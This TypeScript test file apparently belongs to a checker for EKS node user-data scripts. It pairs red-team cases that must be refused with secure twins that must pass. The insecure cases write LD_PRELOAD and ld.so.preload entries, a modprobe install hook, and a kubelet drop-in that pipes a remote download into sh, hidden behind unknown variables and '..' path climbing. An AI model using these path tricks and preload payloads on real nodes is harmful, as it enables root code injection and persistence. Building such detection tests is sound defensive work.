// Red-team round 76 (fix76-node2, node2b, node2c) on EKS NODE user data: writes as root whose target path holds a part
// the pack cannot know (a variable never set or set from a download, a command's output, `${VAR:-default}` of an
// unknown VAR). Such a path may be any file root's programs read: bash(1) "Parameter Expansion"/"Command
// Substitution" put the value in the word as it is (slashes and `..` included) and path_resolution(7) resolves each
// `..` against the directory reached so far, so from ANY prefix the path may climb to / and go down anywhere; only the
// literal text after the last unknown part bounds it. A part that cannot hold a slash (`$(hostname)`, `$(uname -m)`:
// ONE_WORD) stays in its path component. A prefix the pack knows (a variable the script set, mktemp/mktemp -d's new
// name under /tmp) is no unknown.
// Fix (rootReads.ts): RootReads.unknownTarget (called from file, writtenUnknown and unknown in-place edits) judges such
// a write as a write to each judged file (JUDGED_FILES, JUDGED_DIRECTORIES with the names each directory's reader
// takes) the path's known parts still allow: unknown content there is refused; known content is judged at each (a
// comment or a literal PS1 passes, `export LD_PRELOAD=...` is refused as at /root/.bashrc.d/x). resolveWord (node2b):
// a `..` right after an unknown part stays inside it (`/opt/$UNK/../x` is no known /opt/x). A cp/mv/install/ln whose
// destination word holds an unknown part (node2c: RootReads.command copiedToUnknown) is judged both as before (the
// word may be any words, an option too: unknownItems, a copy into /) and at the path the word expands to
// (unknownTarget), so U4/U5/U6/U20 are refused. Writes after a cd the pack cannot follow go to UNKNOWN_CWD
// (RootReads.unknownDirectory, from main) before unknownTarget.
// node2c also: `>&WORD` duplicates a descriptor when WORD expands to digits (bash(1) "Duplicating File Descriptors";
// shell.ts dupWords), and zsh's ztcp/zsocket leave REPLY holding digits (zshmodules(1) zsh/net/tcp, zsh/net/socket:
// the descriptor "is stored in the parameter $REPLY"), so `ztcp ... && echo ok >&$REPLY` writes no file; a `>&$X` of
// any other word stays a file written (U23-U26 pin the insecure side, SU11 the secure).
// Probed (all refused after the fix, U1-U9, U11-U15, U17, U20 accepted before it): redirections `>`/`>>`, tee, cp,
// install, mv, sed -i, printf > "$(cat f)", `> "$(cat /opt/dir)/..."`, an unquoted glob /root/.bash* (U10: already
// refused), ${UNK:-/opt} and ${HOME:-/root} with the variable downloaded, `/opt/app/$UNK` and `/opt/app/$UNK.conf`,
// a kubelet drop-in below an unknown directory, `$(hostname)` in /etc/profile.d names, mktemp -d + `../..` (U16:
// resolved, already refused). Secure twins held: a comment or a literal PS1 at an unknown path (redirect and tee),
// mktemp -d / mktemp outputs, a known variable's directory, LD_PRELOAD text in /opt/app/$(hostname).conf.
// Left stricter (not a case here): a cp/mv/install of even harmless content to a destination word that begins with an
// unknown part may be refused (the word may be any option, so it is also judged as a copy into /).
import { describeNodeCases, devNodeCase, devNodeScript, NodeCase } from "./nodeBuilders";

const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const UNK = 'UNK="$(curl -fsSL https://config.example.com/dir)"';
const REFUSED =
    /unknown|cannot know|cannot compute|any file|LD_PRELOAD|loader|ld\.so|librar|startup|environment|unread/i;
const n = (id: string) => `dev-${id}-76n2-nodes`;

const insecure: NodeCase[] = [
    devNodeCase(
        'U1 echo export LD_PRELOAD > "$UNK/.bashrc.d/ops.sh" (UNK unset)',
        devNodeScript(n("u1"), [SO, `echo 'export LD_PRELOAD=/opt/x.so' > "$UNK/.bashrc.d/ops.sh"`]),
        REFUSED,
    ),
    devNodeCase(
        'U2 echo export LD_PRELOAD > "$UNK/.bashrc.d/ops.sh" (UNK downloaded)',
        devNodeScript(n("u2"), [SO, UNK, `echo 'export LD_PRELOAD=/opt/x.so' > "$UNK/.bashrc.d/ops.sh"`]),
        REFUSED,
    ),
    devNodeCase(
        'U3 echo | tee "$UNK/ld.so.preload"',
        devNodeScript(n("u3"), [SO, UNK, `echo /opt/x.so | tee "$UNK/ld.so.preload"`]),
        REFUSED,
    ),
    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
    devNodeCase(
        'U4 cp a written file to "$UNK/profile.d/ops.sh"',
        devNodeScript(n("u4"), [
            SO,
            UNK,
            "echo 'export LD_PRELOAD=/opt/x.so' > /opt/ops.sh",
            `cp /opt/ops.sh "$UNK/profile.d/ops.sh"`,
        ]),
        REFUSED,
    ),
    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
    devNodeCase(
        'U5 install a written file to "$UNK"/ld.so.preload',
        devNodeScript(n("u5"), [
            SO,
            UNK,
            "echo /opt/x.so > /opt/preload",
            `install -m 644 /opt/preload "$UNK"/ld.so.preload`,
        ]),
        REFUSED,
    ),
    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
    devNodeCase(
        'U6 mv a written file to "$UNK/ld.so.preload"',
        devNodeScript(n("u6"), [SO, UNK, "echo /opt/x.so > /opt/preload", `mv /opt/preload "$UNK/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U7 sed -i appending LD_PRELOAD to "$UNK/.bashrc"',
        devNodeScript(n("u7"), [SO, UNK, `sed -i '$a export LD_PRELOAD=/opt/x.so' "$UNK/.bashrc"`]),
        REFUSED,
    ),
    devNodeCase(
        'U8 >> "$UNK/.bashrc"',
        devNodeScript(n("u8"), [SO, UNK, `echo 'export LD_PRELOAD=/opt/x.so' >> "$UNK/.bashrc"`]),
        REFUSED,
    ),
    devNodeCase(
        'U9 printf > "$(cat /opt/target)" (a downloaded target name)',
        devNodeScript(n("u9"), [
            SO,
            "curl -fsSL -o /opt/target https://config.example.com/target",
            `printf '%s\\n' /opt/x.so > "$(cat /opt/target)"`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "U10 echo >> /root/.bash* (an unquoted glob)",
        devNodeScript(n("u10"), [SO, "echo 'export LD_PRELOAD=/opt/x.so' >> /root/.bash*"]),
        REFUSED,
    ),
    devNodeCase(
        'U11 echo > "${UNK:-/opt}/.bashrc.d/ops.sh" (UNK downloaded, a default)',
        devNodeScript(n("u11"), [SO, UNK, `echo 'export LD_PRELOAD=/opt/x.so' > "\${UNK:-/opt}/.bashrc.d/ops.sh"`]),
        REFUSED,
    ),
    devNodeCase(
        'U12 echo > "/opt/app/$UNK.conf" (UNK may hold /../../etc/ld.so.preload#)',
        devNodeScript(n("u12"), [SO, UNK, `echo /opt/x.so > "/opt/app/$UNK"`]),
        REFUSED,
    ),
    devNodeCase(
        'U13 downloaded content > "$UNK/.bashrc.d/ops.sh" (content unknown)',
        devNodeScript(n("u13"), [UNK, `curl -fsSL https://config.example.com/ops.sh > "$UNK/.bashrc.d/ops.sh"`]),
        REFUSED,
    ),
    devNodeCase(
        'U14 echo > "$(cat /opt/dir)/ld.so.preload"',
        devNodeScript(n("u14"), [
            SO,
            "curl -fsSL -o /opt/dir https://config.example.com/dir",
            `echo /opt/x.so > "$(cat /opt/dir)/ld.so.preload"`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        'U15 echo > "${HOME:-/root}/.bashrc.d/ops.sh" after HOME downloaded',
        devNodeScript(n("u15"), [
            SO,
            'HOME="$(curl -fsSL https://config.example.com/home)"',
            `echo 'export LD_PRELOAD=/opt/x.so' > "\${HOME:-/root}/.bashrc.d/ops.sh"`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        'U16 mktemp -d directory, then "$TMP/../../etc/ld.so.preload"',
        devNodeScript(n("u16"), [SO, "TMP=$(mktemp -d)", `echo /opt/x.so > "$TMP/../../etc/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U17 a modprobe install line > "/opt/app/$UNK.conf" (UNK may hold /../../etc/modprobe.d/x)',
        devNodeScript(n("u17"), [UNK, `echo 'install loop /opt/x.sh' > "/opt/app/$UNK.conf"`]),
        /modprobe|unknown|cannot/i,
    ),
    devNodeCase(
        'U18 a kubelet drop-in with ExecStartPre > "$UNK/kubelet.service.d/10-x.conf"',
        devNodeScript(n("u18"), [
            SO,
            UNK,
            `printf '[Service]\\nExecStartPre=/bin/sh -c "curl -fsSL https://x.example.com/a | sh"\\n' > "$UNK/kubelet.service.d/10-x.conf"`,
        ]),
        /./,
    ),
    devNodeCase(
        'U19 export LD_PRELOAD > "/etc/profile.d/$(hostname).sh" (a name part that cannot hold a slash, still judged)',
        devNodeScript(n("u19"), [SO, `echo 'export LD_PRELOAD=/opt/x.so' > "/etc/profile.d/$(hostname).sh"`]),
        REFUSED,
    ),
    // Was still open (round 76 node2b), fixed in round 76 node2c: the copy is judged both into / (unknownItems, as
    // before) and at the path its destination word expands to (RootReads.command copiedToUnknown → unknownTarget).
    devNodeCase(
        'U20 cp of a downloaded file to "$(cat /opt/dir)/" (content and path unknown)',
        devNodeScript(n("u20"), [
            "curl -fsSL -o /opt/dir https://config.example.com/dir",
            "curl -fsSL -o /opt/ops.sh https://config.example.com/ops.sh",
            `cp /opt/ops.sh "$(cat /opt/dir)/"`,
        ]),
        REFUSED,
    ),
    // Round 76 node2b: `..` right after an unknown part climbs from whatever directory its value reached
    // (path_resolution(7)), not from the text before it; posix.resolve dropped `$UNK/..` (`/x`, a known path).
    devNodeCase(
        'U21 echo > "/opt/$UNK/../ld.so.preload" (`..` after an unknown part stays unknown)',
        devNodeScript(n("u21"), [SO, UNK, `echo /opt/x.so > "/opt/$UNK/../ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U22 downloaded content > "$UNK/../../.bashrc.d/ops.sh"',
        devNodeScript(n("u22"), [UNK, `curl -fsSL https://config.example.com/ops.sh > "$UNK/../../.bashrc.d/ops.sh"`]),
        REFUSED,
    ),
    // Round 76 node2c: `>&WORD` duplicates a descriptor only when WORD expands to digits (bash(1) "Duplicating File
    // Descriptors"); REPLY holds digits only after zsh's ztcp/zsocket (zshmodules(1) zsh/net/tcp). Elsewhere `>&$X`
    // writes the file $X names.
    devNodeCase(
        "U23 bash: ztcp (no such builtin) then echo LD_PRELOAD >&$REPLY (REPLY never set: a file)",
        devNodeScript(n("u23"), [
            SO,
            `bash -c 'ztcp 127.0.0.1 10248; echo "export LD_PRELOAD=/opt/x.so" >&$REPLY' || true`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "U24 zsh: REPLY set to a path, a ztcp that may fail, then echo >&$REPLY (REPLY may still be the path)",
        devNodeScript(n("u24"), [
            SO,
            `zsh -c 'REPLY=/etc/ld.so.preload; zmodload zsh/net/tcp; ztcp 127.0.0.1 10248; echo /opt/x.so >&$REPLY' || true`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        "U25 zsh: ztcp, then echo >&$UNK (another variable, unknown: a file)",
        devNodeScript(n("u25"), [
            SO,
            UNK,
            `zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 10248 && echo /opt/x.so >&$UNK' || true`,
        ]),
        /./,
    ),
    devNodeCase(
        "U26 zsh: ztcp, then echo LD_PRELOAD > $REPLY (a plain `>`: the file named by digits in the cwd)",
        devNodeScript(n("u26"), [
            SO,
            `cd /etc/profile.d && zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 10248 && echo "export LD_PRELOAD=/opt/x.so" > $REPLY.sh' || true`,
        ]),
        REFUSED,
    ),
    // Round 77 (node2): systemd-escape(1) output without --unescape holds no slash (systemd.unit(5) string escaping:
    // "/" becomes "-"); basename(1) output holds none but "/" alone and may be "..". The insecure twins: an unescape,
    // an unquoted operand (several arguments, -u among them), a basename that is a whole component or next to dots.
    devNodeCase(
        'U27 echo > "/opt/app/$(systemd-escape -u "$UNK")/ld.so.preload" (an unescaped string may hold "/" and "..")',
        devNodeScript(n("u27"), [SO, UNK, `echo /opt/x.so > "/opt/app/$(systemd-escape -u "$UNK")/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U28 echo > "/opt/app/$(systemd-escape --path $UNK)/ld.so.preload" (unquoted: any arguments, -u too)',
        devNodeScript(n("u28"), [SO, UNK, `echo /opt/x.so > "/opt/app/$(systemd-escape --path $UNK)/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U29 LD_PRELOAD > "/root/x/$(basename "$UNK")/.bashrc.d/ops.sh" (a whole component may be "..")',
        devNodeScript(n("u29"), [
            SO,
            UNK,
            `echo 'export LD_PRELOAD=/opt/x.so' > "/root/x/$(basename "$UNK")/.bashrc.d/ops.sh"`,
        ]),
        REFUSED,
    ),
    devNodeCase(
        'U30 echo > "/etc/x/.$(basename "$UNK")/ld.so.preload" ("." and a "." output make "..")',
        devNodeScript(n("u30"), [SO, UNK, `echo /opt/x.so > "/etc/x/.$(basename "$UNK")/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U31 echo > "/etc/a$(basename "$UNK")b/../../ld.so.preload" (a "/" output splits the component: /etc/a/b/../..)',
        devNodeScript(n("u31"), [SO, UNK, `echo /opt/x.so > "/etc/a$(basename "$UNK")b/../../ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U32 echo > "/opt/app/$(basename $UNK)/ld.so.preload" (unquoted: -a -z ".." "/" ".." prints ../..)',
        devNodeScript(n("u32"), [SO, UNK, `echo /opt/x.so > "/opt/app/$(basename $UNK)/ld.so.preload"`]),
        REFUSED,
    ),
    devNodeCase(
        'U33 LD_PRELOAD > "/etc/profile.d/$(basename "$UNK").sh" (within its component, still a profile.d file)',
        devNodeScript(n("u33"), [
            SO,
            UNK,
            `echo 'export LD_PRELOAD=/opt/x.so' > "/etc/profile.d/$(basename "$UNK").sh"`,
        ]),
        REFUSED,
    ),
    // Round 77 (node2): a filter after hostname/uname (ONE_WORD) must keep it no `..`: tr -d of an EC2 host name
    // ip-10-0-1-2.ec2.internal's letters, digits and dashes leaves "..".
    devNodeCase(
        'U34 echo > "/etc/x/$(hostname | tr -d a-z0-9-)/ld.so.preload" (the dots of the host name alone: "..")',
        devNodeScript(n("u34"), [SO, `echo /opt/x.so > "/etc/x/$(hostname | tr -d a-z0-9-)/ld.so.preload"`]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        'SU1 a comment > "$UNK/.bashrc.d/ops.sh" (UNK downloaded)',
        devNodeScript(n("su1"), [UNK, `echo '# managed by ops' > "$UNK/.bashrc.d/ops.sh"`]),
    ),
    devNodeCase(
        'SU2 a literal PS1 >> "$UNK/.bashrc"',
        devNodeScript(n("su2"), [UNK, `echo 'PS1="[node] \\w $ "' >> "$UNK/.bashrc"`]),
    ),
    devNodeCase(
        'SU3 mktemp -d directory, downloaded content > "$TMP/x"',
        devNodeScript(n("su3"), [
            "TMP=$(mktemp -d)",
            `curl -fsSL https://downloads.example.com/x.tgz > "$TMP/x.tgz"`,
            `tar -tzf "$TMP/x.tgz"`,
        ]),
    ),
    devNodeCase(
        'SU4 mktemp -d directory, echo LD_PRELOAD text > "$TMP/notes"',
        devNodeScript(n("su4"), ["TMP=$(mktemp -d)", `echo 'export LD_PRELOAD=/opt/x.so' > "$TMP/notes"`]),
    ),
    devNodeCase(
        'SU5 a known variable: D=/opt/app; downloaded content > "$D/app.conf"',
        devNodeScript(n("su5"), [
            "D=/opt/app",
            'mkdir -p "$D"',
            `curl -fsSL https://config.example.com/app.conf > "$D/app.conf"`,
        ]),
    ),
    devNodeCase(
        'SU6 mktemp file, downloaded content to "$F"',
        devNodeScript(n("su6"), [
            "F=$(mktemp)",
            `curl -fsSL -o "$F" https://downloads.example.com/x.tgz`,
            `tar -tzf "$F"`,
        ]),
    ),
    devNodeCase(
        'SU7 LD_PRELOAD text > "/opt/app/$(hostname).conf" (a name part that cannot hold a slash, under /opt/app)',
        devNodeScript(n("su7"), [
            "mkdir -p /opt/app",
            `echo 'export LD_PRELOAD=/opt/x.so' > "/opt/app/$(hostname).conf"`,
        ]),
    ),
    devNodeCase(
        'SU8 a comment piped to tee "$UNK/.bashrc.d/ops.sh"',
        devNodeScript(n("su8"), [UNK, `echo '# managed by ops' | tee "$UNK/.bashrc.d/ops.sh"`]),
    ),
    devNodeCase(
        'SU9 a comment > "/opt/$UNK/../.bashrc.d/ops.sh" (`..` after an unknown part: judged where it may land)',
        devNodeScript(n("su9"), [UNK, `echo '# managed by ops' > "/opt/$UNK/../.bashrc.d/ops.sh"`]),
    ),
    devNodeCase(
        'SU10 downloaded content > "/opt/app/$(hostname)/../app.conf" (a one-word part holds no slash: /opt/app/app.conf)',
        devNodeScript(n("su10"), [
            "mkdir -p /opt/app",
            `curl -fsSL https://config.example.com/app.conf > "/opt/app/$(hostname)/../app.conf"`,
        ]),
    ),
    devNodeCase(
        "SU11 zsh: ztcp to loopback, then echo ok >&${REPLY} (braced: a descriptor)",
        devNodeScript(n("su11"), [
            `zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 10248 && echo ok >&\${REPLY}; ztcp -c \${REPLY}' || true`,
        ]),
    ),
    // Round 77 (node2): the secure twins (redteam24-nsec's setup-local-disks unit, redteam40-nsec's log file).
    devNodeCase(
        'SU12 downloaded content > "/var/log/$(basename "$UNK").log" (a basename within its component)',
        devNodeScript(n("su12"), [UNK, `curl -fsSL https://config.example.com/x > "/var/log/$(basename "$UNK").log"`]),
    ),
    devNodeCase(
        'SU13 a comment > "/etc/systemd/system/$(systemd-escape --path --suffix=mount "$UNK")" (no slash: a .mount)',
        devNodeScript(n("su13"), [
            UNK,
            `echo '# managed by ops' > "/etc/systemd/system/$(systemd-escape --path --suffix=mount "$UNK")"`,
        ]),
    ),
    devNodeCase(
        'SU14 downloaded content > "/opt/app/$(systemd-escape "$UNK")/../app.conf" (no slash, never ..: /opt/app/app.conf)',
        devNodeScript(n("su14"), [
            UNK,
            "mkdir -p /opt/app",
            `curl -fsSL https://config.example.com/app.conf > "/opt/app/$(systemd-escape "$UNK")/../app.conf"`,
        ]),
    ),
    devNodeCase(
        'SU15 LD_PRELOAD text > "/opt/app/$(uname -m | tr a-z A-Z)/app.conf" (a tr of word characters: one word)',
        devNodeScript(n("su15"), [
            "mkdir -p /opt/app",
            `echo 'export LD_PRELOAD=/opt/x.so' > "/opt/app/$(uname -m | tr a-z A-Z)/app.conf"`,
        ]),
    ),
];

describeNodeCases("red team 76 (node2): writes to paths with unknown parts", insecure, secure);
